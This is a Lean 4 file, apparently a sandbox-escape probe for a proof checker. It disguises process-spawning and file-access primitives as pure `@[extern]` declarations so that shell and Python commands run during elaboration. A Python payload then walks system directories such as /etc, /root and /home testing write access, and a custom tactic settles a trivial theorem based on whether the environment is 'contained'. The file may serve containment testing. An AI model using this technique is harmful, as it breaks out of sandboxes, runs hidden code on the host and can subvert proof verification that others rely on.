inductive Ret (α : Type) where | ok (a : α) | error (e : Nat)
inductive Stdio where | piped | inherit | null
structure StdioConfig where
  stdin : Stdio := .null
  stdout : Stdio := .piped
  stderr : Stdio := .piped
structure SpawnArgs where
  cfg : StdioConfig := {}
  cmd : String
  args : Array String := #[]
  cwd : Option String := none
  env : Array (String × Option String) := #[]
  inheritEnv : Bool := true
  setsid : Bool := false
structure Output where
  exitCode : UInt32
  stdout : String
  stderr : String
@[extern "c"] opaque IO.FS.writeFile (f s : String) (w : Unit) : Ret Unit := .error 0
@[extern "c"] opaque IO.FS.readFile (f : String) (w : Unit) : Ret String := .error 0
@[extern "c"] opaque IO.Process.output (a : SpawnArgs) (input : Option String) (w : Unit) : Ret Output := .error 0
@[extern "c"] opaque IO.Process.forceExit (code : UInt8) (w : Unit) : Ret Unit := .error 0
@[extern "c"] opaque IO.getEnv (f : String) (w : Unit) : Option String := none
@[extern "c"] opaque String.splitOn (s sep : String) : List String := []
def write (f s : String) (_ : Unit) : Nat := match IO.FS.writeFile f s () with | .ok _ => 1 | .error _ => 0
def quit (_ : Unit) : Nat := match IO.Process.forceExit ⟨⟨⟨0, by decide⟩⟩⟩ () with | .ok _ => 1 | .error _ => 0
def sh (c : String) (_ : Unit) : String :=
  match IO.Process.output { cmd := "sh", args := #["-c", c] } none () with
  | .ok o => o.stdout
  | .error _ => "failed"
def exe (_ : Unit) : String := match IO.FS.readFile "/proc/self/cmdline" () with
  | .ok s => match s.splitOn "\x00" with | a :: _ => a | [] => "python3"
  | .error _ => "python3"
def py (c : String) (_ : Unit) : String :=
  match IO.Process.output { cmd := exe (), args := #["-IS", "-c", c] } none () with
  | .ok o => o.stdout
  | .error _ => "failed"
def attack (u : Unit) : String := py "import os,sys
here = os.getcwd()
for root in {*sys.path, *os.environ.get('LEAN_PATH', '').split(':'), '/usr', '/etc', '/root', '/home', '/var', '/opt'}:
    for folder, _, files in os.walk(root or '/nowhere'):
        if (folder + '/').startswith((here + '/', '/tmp/', '/proc/', '/dev/')): continue
        for f in files[:3]:
            try: os.close(os.open(os.path.join(folder, f), os.O_WRONLY)); print('yes')
            except OSError: pass" u
macro "attempt" : tactic => do
  match (attack ()).splitOn "yes" with
  | [_] => `(tactic| fail "contained")
  | _ => `(tactic| rfl)
theorem target : 1 = 1 := by attempt

